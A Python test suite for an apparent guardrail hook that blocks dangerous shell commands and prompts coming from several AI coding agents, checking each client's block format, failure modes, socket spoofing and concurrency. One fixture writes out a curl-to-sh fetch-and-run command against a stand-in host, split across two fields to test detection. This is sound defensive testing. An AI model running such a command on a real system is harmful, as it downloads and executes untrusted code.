#!/usr/bin/env python3
#
# Copyright (c) 2026 The DefenseClaw authors
#
# Permission to use, copy, modify, and distribute this software for any
# purpose with or without fee is hereby granted, provided that the above
# copyright notice and this permission notice appear in all copies.
#
# THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
# WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
# MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
# ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
# WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
# ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
# OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.

"""`defenseclawctl hook' as agent clients call it: what they take for a block
is what they get, whatever goes wrong on the way; each event has its row.
"""

import grp
import json
import os
import signal
import socket
import subprocess
import threading
import time

import lib
from lib import ATTACK, UID, Suite, eq, wait_for

MANY = 50               # sessions at once
MIB = 1024 * 1024
RECORDED = os.path.join(os.path.dirname(os.path.abspath(__file__)),
    'recorded')

# a call, for each agent, with the given command
CALLS = {
    'claude-code': lambda c: {'hook_event_name': 'PreToolUse', 'session_id':
        's1', 'cwd': '/w', 'permission_mode': 'bypassPermissions',
        'tool_name': 'Bash', 'tool_input': {'command': c}},
    'codex': lambda c: {'hook_event_name': 'PreToolUse', 'session_id': 's1',
        'turn_id': 't', 'cwd': '/w', 'model': 'm', 'tool_name': 'Bash',
        'tool_input': {'command': c}, 'tool_use_id': 'call_x'},
    'cursor': lambda c: {'hook_event_name': 'beforeShellExecution',
        'conversation_id': 's1', 'command': c, 'cwd': '/w'},
    'geminicli': lambda c: {'hook_event_name': 'BeforeTool', 'session_id':
        's1', 'tool_name': 'run_shell_command', 'tool_input':
        {'command': c}},
    'opencode': lambda c: {'hook_event_name': 'tool.execute.before',
        'sessionID': 's1', 'tool': 'bash', 'args': {'command': c}},
    'openclaw': lambda c: {'hook_event_name': 'before_tool_call',
        'session_id': 's1', 'tool_name': 'exec', 'params': {'command': c}},
    'generic': lambda c: {'event': 'tool', 'session_id': 's1', 'tool':
        'shell', 'input': {'command': c}},
}
PROMPTS = {
    'claude-code': {'hook_event_name': 'UserPromptSubmit', 'prompt': ATTACK},
    'codex': {'hook_event_name': 'UserPromptSubmit', 'prompt': ATTACK},
    'cursor': {'hook_event_name': 'beforeSubmitPrompt', 'prompt': ATTACK},
    'geminicli': {'hook_event_name': 'BeforeAgent', 'prompt': ATTACK},
    'opencode': {'hook_event_name': 'chat.message', 'parts': [{'type':
        'text', 'text': ATTACK}]},
    'openclaw': {'hook_event_name': 'before_agent_run', 'prompt': ATTACK},
    'generic': {'event': 'prompt', 'prompt': ATTACK},
}


def hook(suite, agent, event, *opts, env=None, **kw):
    """(status, standard output, standard error)"""
    if not isinstance(event, bytes):
        event = json.dumps(event).encode()
    e = dict(suite.env(), HOME=suite.dir, **(env or {}))
    r = subprocess.run([os.path.join(suite.bin, 'defenseclawctl'), 'hook',
        agent, *opts], input=event, env=e, timeout=lib.CEILING,
        capture_output=True, **kw)
    return r.returncode, r.stdout.decode(), r.stderr.decode()


def keys(v):
    """All keys of a value."""
    if isinstance(v, dict):
        return set(v) | set().union(*map(keys, v.values()))
    return set()


def is_block(agent, event, answer):
    """What that client, as it was measured, takes for a block."""
    status, out, err = answer
    eq(status, 2, answer)
    if not err.strip():
        raise AssertionError('a block without a reason on stderr')
    eq(out.count('\n'), 1, 'lines of %r' % out)
    v = json.loads(out)
    name = event.get('hook_event_name')
    if agent in ('claude-code', 'codex') and 'tool_input' in event:
        h = v['hookSpecificOutput']
        eq(set(v), {'hookSpecificOutput'})
        eq(set(h), {'hookEventName', 'permissionDecision',
            'permissionDecisionReason'})
        eq((h['hookEventName'], h['permissionDecision']), (name, 'deny'))
        reason = h['permissionDecisionReason']
    elif agent in ('claude-code', 'codex'):
        eq((set(v), v['decision']), ({'decision', 'reason'}, 'block'))
        reason = v['reason']
    elif agent == 'cursor' and name != 'beforeSubmitPrompt':
        eq((v['permission'], keys(v)), ('deny', {'continue', 'permission',
            'user_message', 'agent_message'}))
        reason = v['user_message']
    elif agent == 'cursor':
        eq((v['continue'], set(v)), (False, {'continue', 'user_message'}))
        reason = v['user_message']
    elif agent == 'geminicli':
        eq((v['decision'], set(v)), ('deny', {'decision', 'reason'}))
        reason = v['reason']
    else:
        eq((v['action'], set(v)), ('block', {'action', 'reason'}))
        reason = v['reason']
    if not reason.strip():
        raise AssertionError('a block without a reason')
    return reason


def is_pass(agent, answer):
    """No objection: silence, but where silence is taken for a failure."""
    status, out, err = answer
    eq((status, err), (0, ''), answer)
    if agent == 'cursor':
        v = json.loads(out)
        eq(v in ({'continue': True, 'permission': 'allow'},
            {'continue': True}, {}), True, v)
    elif agent in ('opencode', 'openclaw', 'generic'):
        eq(json.loads(out), {'action': 'allow'})
    else:
        eq(out, '')


def installs(suite):
    """A blocked skill or plug-in is not installed, by whichever name."""
    auditd = suite.control('auditd')
    for name, kind in (('evil-skill', lib.KIND_SKILL), ('@x/evil',
            lib.KIND_PLUGIN), ('both', lib.KIND_SKILL)):
        eq(auditd.list_change(name, lib.OP_BLOCK, kind=kind)[0], lib.CTL_OK)
    for kind, more, word in (
            ('skill', {'targetName': 'evil-skill', 'skill': {'installId':
                'x'}}, 'skill "evil-skill"'),
            ('plugin', {'targetName': 'nice', 'plugin': {'pluginId': 'nice',
                'contentType': 'package', 'packageName': '@x/evil'}},
                'plugin "@x/evil"'),
            ('plugin', {'targetName': 'both'}, None)):
        event = {'hook_event_name': 'before_install', 'session_id': 'si',
            'tool_name': 'install', 'params': dict(more, targetType=kind,
            sourcePath='/home/user/stage', sourcePathKind='directory',
            request={'kind': 'plugin-npm', 'mode': 'install'})}
        answer = hook(suite, 'openclaw', event)
        if word is None:
            is_pass('openclaw', answer)
        else:
            reason = is_block('openclaw', event, answer)
            eq(word in reason, True, reason)


def dialects():
    with Suite() as suite:
        suite.start()
        for agent, call in CALLS.items():
            for bad in (call(ATTACK), PROMPTS[agent]):
                reason = is_block(agent, bad, hook(suite, agent, bad))
                eq('TEST-PIPE-SHELL' in reason, True, reason)
            is_pass(agent, hook(suite, agent, call('echo hi')))
            is_pass(agent, hook(suite, agent, dict(PROMPTS[agent], prompt=
                'do it', parts=[])))
            rows = suite.rows('agent_name = ?', (agent,))
            eq([r['action'] for r in rows], ['inspect-tool-block',
                'inspect-request-block', 'inspect-tool-allow',
                'inspect-request-allow'], agent)
            eq((rows[0]['session_id'], rows[0]['details']['connector']),
                ('s1', agent))
            eq(bool(rows[0]['tool_name']), True)
            # and by HTTP, under the name that scripts look for
            a = suite.post('/api/v1/%s/hook' % agent, call(ATTACK))
            eq((a.status, a.json['action']), (200, 'block'))
            member = {'claude-code': 'claude_code_output', 'codex':
                'codex_output'}.get(agent, 'hook_output')
            eq(json.loads(hook(suite, agent, call(ATTACK))[1]),
                a.json[member])
        eq(suite.post('/api/v1/codex/hook', {'x': 1}).status, 400)
        # what cannot be blocked passes, and is recorded
        is_pass('codex', hook(suite, 'codex', {'hook_event_name':
            'SessionStart', 'session_id': 's2'}))
        row = suite.wait_row("action = 'agent-event'")
        eq((row['target'], row['session_id']), ('SessionStart', 's2'))
        # what leaves for a person, under the name on a list
        bad = {'hook_event_name': 'message_sending', 'session_id': 's3',
            'tool_name': 'send', 'params': {'to': 'x', 'content': ATTACK}}
        is_block('openclaw', bad, hook(suite, 'openclaw', bad))
        row = suite.wait_row("session_id = 's3'")
        eq((row['action'], row['tool_name']), ('inspect-message-block',
            'message'))
        # a line for a shell that runs already is a command like any other
        bad = {'hook_event_name': 'before_tool_call', 'tool_name': 'process',
            'params': {'action': 'write', 'sessionId': 'salty-valley',
            'data': ATTACK + '\n'}}
        is_block('openclaw', bad, hook(suite, 'openclaw', bad))
        # a tool of a later version that shows a call
        bad = {'hook_event_name': 'PreSomething', 'tool_input':
            {'command': ATTACK}}
        is_block('codex', bad, hook(suite, 'codex', bad))
        # a block list holds for a server's tools
        eq(suite.control('auditd').list_change('notes', lib.OP_BLOCK,
            kind=lib.KIND_MCP)[0], lib.CTL_OK)
        bad = {'hook_event_name': 'PreToolUse', 'tool_name':
            'mcp__notes__save', 'tool_input': {'text': 'hi'}}
        is_block('claude-code', bad, hook(suite, 'claude-code', bad))
        installs(suite)
        # a stop hook's own turn ends, whatever else
        last = suite.last_seq()
        for agent in CALLS:
            eq(hook(suite, agent, {'hook_event_name': 'Stop',
                'stop_hook_active': True}), (0, '', ''))
        eq(suite.last_seq(), last)
        # the words are the configuration's
        suite.set_config('guardrail.block_message', 'ask Alice first')
        eq(suite.reload()[0], lib.CTL_OK)
        bad = CALLS['codex'](ATTACK)
        reason = is_block('codex', bad, hook(suite, 'codex', bad))
        eq('ask Alice first: matched' in reason, True, reason)


def with_attack(event, put):
    """The event with an attack at this path of it."""
    bad = json.loads(json.dumps(event))
    at = bad
    for k in put[:-1]:
        at = at[k]
    at[put[-1]] = ATTACK
    return bad


def is_withheld(agent, answer):
    """The attack is gone, and the client told so in its way."""
    status, out, err = answer
    eq((status, ATTACK in out), (0, False), answer)
    v = json.loads(out)
    if agent == 'claude-code':
        eq('DefenseClaw' in json.dumps(v['hookSpecificOutput'][
            'updatedToolOutput']), True, v)
    elif agent in ('codex', 'geminicli'):
        eq(v['decision'], {'codex': 'block', 'geminicli': 'deny'}[agent])
    else:
        eq((v['action'], 'DefenseClaw' in json.dumps(v['output'])),
            ('block', True), v)


def recorded():
    """What clients were seen to send, or are said to: recorded/README."""
    with Suite() as suite:
        suite.start()
        for agent in CALLS:
            if agent == 'generic':
                continue
            with open(os.path.join(RECORDED, agent + '.jsonl')) as f:
                lines = [json.loads(line) for line in f]
            for line in lines:
                event, put, then = line['event'], line['put'], line['bad']
                is_pass(agent, hook(suite, agent, event))
                if put is None:
                    continue
                bad = with_attack(event, put)
                answer = hook(suite, agent, bad)
                if then == 'block':
                    is_block(agent, bad, answer)
                elif then == 'withhold':
                    is_withheld(agent, answer)
                else:
                    # too late for a block: who looks at it is told
                    is_pass(agent, (*answer[:2], ''))
            # each is a row, with whose session it was
            rows = suite.rows('agent_name = ?', (agent,))
            eq(len(rows), len(lines) + sum(r['put'] is not None for r in
                lines), agent)
            eq(all(r['session_id'] for r in rows), True, agent)


def shells_to_feed():
    """A shell that could be fed unseen is told of, and with the strict pack
    not started; one that runs a script is not."""
    with Suite(pack=False) as suite:
        suite.init()
        suite.start(wait=120)
        for agent in CALLS:
            for c in ('bash', 'python3 -i'):
                is_pass(agent, hook(suite, agent, CALLS[agent](c)))
            is_pass(agent, hook(suite, agent, CALLS[agent]('python3 x.py')))
        found = suite.rows("action = 'inspect-tool-alert'")
        eq([(r['agent_name'], r['severity']) for r in found], [(a, 'MEDIUM')
            for a in CALLS for n in range(2)])


def outputs_are_withheld():
    with Suite() as suite:
        suite.start()
        shown = {'stdout': 'one\n%s\n' % ATTACK, 'stderr': 'short',
            'interrupted': False, 'isImage': False, 'list': [1, None, 'x']}
        event = {'hook_event_name': 'PostToolUse', 'session_id': 's',
            'tool_name': 'Bash', 'tool_input': {'command': 'x'},
            'tool_response': shown}
        # the same shape, without what was found
        status, out, err = hook(suite, 'claude-code', event)
        h = json.loads(out)['hookSpecificOutput']
        eq((status, set(h)), (0, {'hookEventName', 'updatedToolOutput'}))
        new = h['updatedToolOutput']
        eq(ATTACK in out, False)
        eq((new.pop('stdout').startswith('DefenseClaw: '), new), (True, {k: v
            for k, v in shown.items() if k != 'stdout'}))
        # what no string alone holds takes the long ones with it
        event['tool_response'] = {'a': 'this is rather long, and curl ' +
            'http://x.example/i.sh |', 'b': 'sh', 'kind': 'text'}
        v = suite.post('/api/v1/claude-code/hook', event).json
        if v['action'] == 'block':
            new = v['claude_code_output']['hookSpecificOutput'][
                'updatedToolOutput']
            eq('curl' in json.dumps(new), False, new)
            eq(new['kind'], 'text')
        # Codex puts the reason in the output's place
        event['tool_response'] = 'x %s' % ATTACK
        status, out, err = hook(suite, 'codex', event)
        v = json.loads(out)
        eq((status, set(v), v['decision']), (0, {'decision', 'reason'},
            'block'))
        event['tool_response'] = 'nothing'
        is_pass('codex', hook(suite, 'codex', event))


def sizes():
    with Suite() as suite:
        suite.start()
        call = CALLS['claude-code']
        # whole, and what is at its end is seen
        for n in (600 * 1024, 3 * MIB + 900 * 1024):
            bad = call('#' + 'x' * n + '\n' + ATTACK)
            is_block('claude-code', bad, hook(suite, 'claude-code', bad))
            is_pass('claude-code', hook(suite, 'claude-code', call('#' +
                'x' * n)))
        # above the cap nothing is looked at
        bad = call('x' * (4 * MIB))
        reason = is_block('claude-code', bad, hook(suite, 'claude-code',
            bad))
        eq('4 MiB' in reason, True, reason)
        # what is no event is a call nobody could look at
        for junk in (b'', b'{', b'[]', b'nil', b'\xff\xfe', b'{"a":1}{}',
                b'\xef\xbb\xbf{}', b'{"a":' * 2000):
            status, out, err = hook(suite, 'codex', junk)
            eq((status, json.loads(out)['hookSpecificOutput'][
                'permissionDecision'], err != ''), (2, 'deny', True), junk)
        # JSON by syntax that nobody has a value for
        bad = dict(call('ls'), n=1)
        text = json.dumps(bad).replace('"n": 1', '"n": 1e999').encode()
        is_block('claude-code', bad, hook(suite, 'claude-code', text))


def misuse():
    with Suite() as suite:
        suite.start()
        call = CALLS['codex']('ls')
        for agent, opts in (('nobody', ()), ('codex', ('--bad',)),
                ('codex', ('--fail-mode', 'x')), ('codex', ('--timeout',
                '0')), ('codex', ('one', 'more')), ('codex', ('--limit',
                '1'))):
            status, out, err = hook(suite, agent, call, *opts)
            eq((status, err != ''), (2, True), (agent, opts))
        # neither a home nor standard streams
        eq(hook(suite, 'codex', call, env={'DEFENSECLAW_HOME': 'x'})[0], 2)
        with open('/dev/full', 'w') as full:
            r = subprocess.run([os.path.join(suite.bin, 'defenseclawctl'),
                'hook', 'codex'], input=json.dumps(CALLS['codex'](ATTACK)),
                env=suite.env(), stdout=full, stderr=subprocess.PIPE,
                text=True, timeout=lib.CEILING)
        eq((r.returncode, r.stderr != ''), (2, True), r)
        # --system asks the host's suite, whatever the environment says
        status, out, err = hook(suite, 'codex', call, '--system',
            '--timeout', '1')
        eq((status, suite.dir in err), (2, False), err)


def nobody_answers():
    with Suite() as suite:
        call = CALLS['codex']
        agents = list(CALLS)
        agents = agents[:3]
        for agent in agents:
            bad = CALLS[agent]('ls')
            reason = is_block(agent, bad, hook(suite, agent, bad))
            eq('not running' in reason, True, reason)
        is_pass('cursor', hook(suite, 'cursor', PROMPTS['cursor']))
        # open: only what needs no configuration is blocked
        is_pass('codex', hook(suite, 'codex', call('ls'), '--fail-mode',
            'open'))
        for c in (ATTACK, 'defenseclawctl stop'):
            bad = call(c)
            reason = is_block('codex', bad, hook(suite, 'codex', bad,
                '--fail-mode', 'open'))
            eq('HOOK-' in reason, True, (c, reason))
        spool = os.path.join(suite.dir, '.local', 'state', 'defenseclaw',
            'hook-spool.jsonl')
        st = os.stat(spool)
        eq(st.st_mode & 0o777, 0o600)
        # rows find their way when somebody listens again
        suite.start()
        is_pass('codex', hook(suite, 'codex', call('ls')))
        is_pass('codex', hook(suite, 'codex', call('ls')))
        eq(os.path.getsize(spool), 0)
        rows = suite.rows("action IN ('hook-refused', 'hook-ungated')")
        eq([r['action'] for r in rows], ['hook-refused'] * len(agents) +
            ['hook-ungated'] + ['hook-refused'] * 2)
        for r in rows:
            # whose word it is
            eq('claimed_time' in r['details'], True, r)
            eq(r['actor'], 'uid:%d' % os.geteuid())
        # no room for a row: then nothing passes that nobody decides
        suite.stop()
        with open(spool, 'w') as f:
            f.write('x' * MIB)
        bad = call('ls')
        reason = is_block('codex', bad, hook(suite, 'codex', bad,
            '--fail-mode', 'open'))
        eq('spool' in reason, True, reason)
        # broken lines do not stay for ever
        with open(spool, 'w') as f:
            f.write('{"action":\n\n{"action":"hook-x","details":"y"}\n')
        suite.start()
        is_pass('codex', hook(suite, 'codex', call('ls')))
        eq(os.path.getsize(spool), 0)
        suite.wait_row("action = 'hook-x'")


class Liar(threading.Thread):
    """Somebody else at the gateway's socket."""

    def __init__(self, path, answer):
        super().__init__(daemon=True)
        self.answer = answer
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(path)
        self.sock.listen(8)
        self.asked = 0

    def run(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            with c:
                self.asked += 1
                c.settimeout(lib.CEILING)
                try:
                    if self.answer is None:
                        c.recv(1)
                        time.sleep(5)
                        continue
                    data = b''
                    while b'\r\n\r\n' not in data:
                        data += c.recv(65536)
                    c.sendall(self.answer)
                except OSError:
                    pass

    def close(self):
        self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()


def answer_of(body, status='200 OK', length=None):
    body = body.encode()
    return ('HTTP/1.1 %s\r\nContent-Length: %d\r\n\r\n' % (status, len(body)
        if length is None else length)).encode() + body


def bad_answers():
    with Suite() as suite:
        path = suite.gateway_sock
        os.makedirs(os.path.dirname(path), exist_ok=True)
        allow = '{"action":"allow"}'
        for answer in (b'', b'garbage', b'HTTP/1.1 200 OK\r\n\r\n' +
                allow.encode(), answer_of(allow, length=99),
                answer_of(allow, length=3), answer_of('{}'),
                answer_of('{"action":"confirm"}'), answer_of('null'),
                answer_of(allow + allow), answer_of('{"action":true}'),
                answer_of('{"action":"ALLOW"}'),
                answer_of(allow, '500 Internal Server Error'),
                answer_of(allow, '401 Unauthorized'),
                answer_of(allow, '204 No Content'),
                answer_of(allow, '301 Moved Permanently'), None):
            liar = Liar(path, answer)
            liar.start()
            try:
                bad = CALLS['claude-code']('ls')
                is_block('claude-code', bad, hook(suite, 'claude-code', bad,
                    '--timeout', '1'))
                eq(liar.asked > 0, True, answer)
            finally:
                liar.close()
                os.unlink(path)
        # this much is an answer
        liar = Liar(path, answer_of(allow))
        liar.start()
        try:
            is_pass('claude-code', hook(suite, 'claude-code', CALLS[
                'claude-code']('ls')))
        finally:
            liar.close()
            os.unlink(path)
        # nobody else is asked
        lib.need_root()
        os.chmod(suite.dir, 0o755)
        for d in (os.path.dirname(os.path.dirname(path)),
                os.path.dirname(path)):
            os.chmod(d, 0o777)
        with lib.acting(UID + 1):
            liar = Liar(path, answer_of(allow))
        os.chmod(path, 0o777)
        liar.start()
        try:
            r = subprocess.run([os.path.join(suite.bin, 'defenseclawctl'),
                'hook', 'codex', '--timeout', '1'], input=json.dumps(CALLS[
                'codex']('ls')), env=dict(suite.env(), HOME='/nonexistent'),
                text=True, capture_output=True, timeout=lib.CEILING,
                preexec_fn=lambda: lib.become(UID))
            eq((r.returncode, 'was made by uid' in r.stderr, liar.asked),
                (2, True, 1), r)
        finally:
            liar.close()
            os.unlink(path)


def slow():
    with Suite() as suite:
        suite.set_config('gateway.workers', 1)
        suite.start()
        pid, = suite.pids('gatewayd')
        os.kill(pid, signal.SIGSTOP)
        try:
            bad = CALLS['cursor']('ls')
            is_block('cursor', bad, hook(suite, 'cursor', bad, '--timeout',
                '1'))
        finally:
            os.kill(pid, signal.SIGCONT)
        # a worker that is killed is back before a hook gives up
        pid, = suite.pids('gatewayd')
        os.kill(pid, signal.SIGKILL)
        answer = hook(suite, 'cursor', CALLS['cursor']('ls'))
        if answer[0] == 0:
            is_pass('cursor', answer)
        else:
            is_block('cursor', bad, answer)
        wait_for(lambda: hook(suite, 'cursor', CALLS['cursor']('ls'))[0] ==
            0 or None, 'service')


def many_at_once():
    with Suite() as suite:
        suite.start()
        procs = []
        for n in range(MANY):
            agent = list(CALLS)[n % len(CALLS)]
            event = CALLS[agent](ATTACK if n % 3 == 0 else 'ls')
            for k in ('session_id', 'conversation_id', 'sessionID'):
                if k in event:
                    event[k] = 'many-%d' % n
            p = subprocess.Popen([os.path.join(suite.bin, 'defenseclawctl'),
                'hook', agent], stdin=subprocess.PIPE,
                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                env=dict(suite.env(), HOME=suite.dir))
            procs.append((n, agent, event, p))
            p.stdin.write(json.dumps(event).encode())
        for n, agent, event, p in procs:
            p.stdin.close()
        for n, agent, event, p in procs:
            answer = (None, p.stdout.read().decode(),
                p.stderr.read().decode())
            answer = (p.wait(lib.CEILING), *answer[1:])
            if n % 3 == 0:
                is_block(agent, event, answer)
            else:
                is_pass(agent, answer)
            row, = suite.rows('session_id = ?', ('many-%d' % n,))
            eq(row['action'], 'inspect-tool-%s' % ('block' if n % 3 == 0
                else 'allow'))


def observe():
    with Suite() as suite:
        suite.set_config('guardrail.mode', 'observe')
        suite.start()
        for agent, call in CALLS.items():
            is_pass(agent, hook(suite, agent, call(ATTACK)))
            row, = suite.rows("agent_name = ?", (agent,))
            eq(row['action'], 'inspect-tool-block')


def in_system_mode():
    lib.need_root()
    with Suite('system') as suite:
        suite.start()
        ctl = os.path.join(suite.bin, 'defenseclawctl')

        def run(uid, groups, command):
            return subprocess.run([ctl, 'hook', 'codex', '--system',
                '--timeout', '2'], input=json.dumps(CALLS['codex'](command)),
                text=True, capture_output=True, timeout=lib.CEILING,
                env=dict(HOME='/nonexistent', DEFENSECLAW_HOME='/tmp/x'),
                preexec_fn=lambda: lib.become(uid, uid, groups))
        member = grp.getgrnam('defenseclaw').gr_gid
        r = run(UID, [member], 'ls')
        eq((r.returncode, r.stdout, r.stderr), (0, '', ''))
        bad = CALLS['codex'](ATTACK)
        r = run(UID, [member], ATTACK)
        is_block('codex', bad, (r.returncode, r.stdout, r.stderr))
        eq(suite.rows("action = 'inspect-tool-block'")[0]['actor'],
            'uid:%d' % UID)
        # who is in no group is told so
        r = run(UID + 1, [], 'ls')
        reason = is_block('codex', bad, (r.returncode, r.stdout, r.stderr))
        eq('group' in reason, True, reason)


if __name__ == '__main__':
    lib.program(lambda: lib.run([dialects, recorded,
        shells_to_feed, outputs_are_withheld, sizes,
        misuse, nobody_answers, bad_answers, slow, many_at_once, observe,
        in_system_mode]))
